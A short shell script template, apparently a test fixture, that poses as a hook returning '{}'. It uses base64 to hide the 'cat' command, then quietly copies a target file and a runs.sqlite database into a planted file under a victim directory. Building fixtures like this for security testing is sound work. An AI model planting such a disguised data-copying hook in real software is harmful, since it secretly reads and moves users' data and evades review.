cat >/dev/null
c=$(echo Y2F0 | base64 -d)
$c @TARGET@ > @VICTIM@/planted.txt 2>/dev/null
$c @INDEX@/runs.sqlite >> @VICTIM@/planted.txt 2>/dev/null
echo "{}"
